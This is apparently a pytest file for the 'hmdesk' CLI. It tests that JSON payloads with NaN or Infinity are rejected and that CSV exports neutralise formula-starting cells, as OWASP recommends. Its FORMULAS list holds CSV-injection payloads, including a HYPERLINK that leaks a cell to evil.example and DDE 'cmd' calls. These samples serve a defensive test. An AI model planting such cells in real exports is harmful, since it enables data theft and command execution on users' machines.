"""Export faults (issue 31 items 8 and 13): a payload that is no JSON (NaN, Infinity), and cells
a spreadsheet would run as formulas.

OWASP's "CSV Injection" page (owasp.org/www-community/attacks/CSV_Injection) lists the cell
starts a spreadsheet reads as a formula (``=``, ``+``, ``-``, ``@``, TAB, CR) and recommends a
leading ``'``; the hostile cells below are its examples.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from hmdesk.core.cli.main import main
from hmdesk.core.db import Database
from hmdesk.core.memory.errors import StoreError
from hmdesk.core.memory.store import MemoryStore

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.hostile("nan-in-payload", "infinity-in-payload")
@pytest.mark.parametrize("payload", ['{"a": NaN}', '{"a": Infinity}', "[-Infinity]"])
def test_a_payload_json_cannot_read_back_is_refused(
    payload: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Item 8: accepted, and the export then wrote NaN that no JSON reader takes back."""
    db = str(tmp_path / "m.db")
    assert main(["--db", db, "add", "hdc install needs a signed hap", "--payload", payload]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith("hmdesk-cli: error: --payload must be JSON")
    with Database(db) as database:
        store = MemoryStore(database)
        with pytest.raises(StoreError, match="payload must be JSON-serialisable"):
            store.add("from the window", payload={"a": float("nan")})
        assert store.count() == 0
        store.close()


@pytest.mark.hostile("csv-formula-injection")
def test_csv_cells_are_neutralised_as_owasp_recommends(tmp_path: Path) -> None:
    """Item 13: 30 of 78 cells in the probe were written raw (``=HYPERLINK(…)``)."""
    db = str(tmp_path / "m.db")
    for f in FORMULAS:
        argv = ["--db", db, "add", "--tag=@sum", f"--source={f}", f"--session={f}", "--", f]
        assert main(argv) == 0, f
    out = tmp_path / "m.csv"
    assert main(["--db", db, "export-csv", str(out)]) == 0
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))[1:]
    assert len(rows) == len(FORMULAS)
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert sorted(row[2] for row in rows) == sorted("'" + f for f in FORMULAS)  # kept, as text
    assert json.dumps(cells)  # every cell is plain text
